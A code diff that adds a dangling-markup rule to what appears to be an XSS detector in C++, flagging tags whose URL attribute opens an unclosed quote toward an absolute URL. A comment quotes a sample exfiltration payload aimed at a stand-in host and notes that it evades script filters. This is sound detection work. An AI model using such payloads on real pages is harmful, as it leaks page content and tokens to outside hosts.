@@ -2288,6 +2288,51 @@ bool IsEncodedAngleBracketProbe(const Input& in) {
   return true;
 }
 
+// Dangling markup: a tag whose URL attribute opens a quote the value never
+// closes ("<img src='https://x.example/log?"). The browser takes the page
+// up to the next such quote as part of the URL and sends it to that host;
+// no script runs, which is why filters let it through.
+void DanglingMarkup(std::string_view s, Finding* f) {
+  static constexpr std::array<std::string_view, 8> kAttrs = {
+      "src", "href", "action", "formaction", "background", "poster", "data", "content"};
+  const size_t last_single = s.rfind('\'');
+  const size_t last_double = s.rfind('"');
+  int checks = 16;
+  for (size_t lt = s.find('<'); lt != std::string_view::npos && checks-- > 0;
+       lt = s.find('<', lt + 1)) {
+    size_t i = lt + 1;
+    while (i < s.size() && i - lt < 16 && IsAlpha(s[i])) ++i;
+    if (i == lt + 1 || i >= s.size() || !IsSpace(s[i])) continue;
+    // The tag's attributes, up to its '>' (or 256 bytes).
+    const size_t end = std::min(s.size(), lt + 256);
+    for (size_t e = i; e < end && s[e] != '>' && s[e] != '<'; ++e) {
+      if (s[e] != '=') continue;
+      size_t a = e;
+      while (a > i && IsSpace(s[a - 1])) --a;
+      size_t b = a;
+      while (b > i && IsAlpha(s[b - 1])) --b;
+      if (b == a || !IsSpace(s[b - 1])) continue;
+      bool url_attr = false;
+      for (std::string_view attr : kAttrs) url_attr = url_attr || scan::IEquals(s.substr(b, a - b), attr);
+      size_t q = e + 1;
+      while (q < s.size() && IsSpace(s[q])) ++q;
+      if (!url_attr || q >= s.size() || (s[q] != '\'' && s[q] != '"')) continue;
+      const size_t last = s[q] == '\'' ? last_single : last_double;
+      const std::string_view url = s.substr(q + 1);
+      const bool absolute = scan::IAt(url, 0, "http://") || scan::IAt(url, 0, "https://") ||
+                            url.starts_with("//");
+      if (last == q && absolute) {
+        f->rule_id = "xss.dangling_markup";
+        f->reason = "a tag's URL attribute opens a quote that never closes";
+        f->score = 62;
+        f->offset = lt;
+        f->length = std::min<size_t>(s.size() - lt, 64);
+        return;
+      }
+    }
+  }
+}
+
 class XssImpl final : public Detector {
  public:
   DetectorId id() const override { return DetectorId::kXss; }
@@ -2313,6 +2358,9 @@ class XssImpl final : public Detector {
       f = Scanner(in.norm, in.mask).RunObfuscatedAccess();
     } else {
       f = Scanner(in.norm, in.mask).Run();
+    }
+    if (f.score < kThreshold && in.mask.Has('<') && in.mask.Has('=') && in.mask.HasAny("'\"")) {
+      DanglingMarkup(in.norm, &f);
     }
     bool from_raw = false;
     CharMask raw_mask;
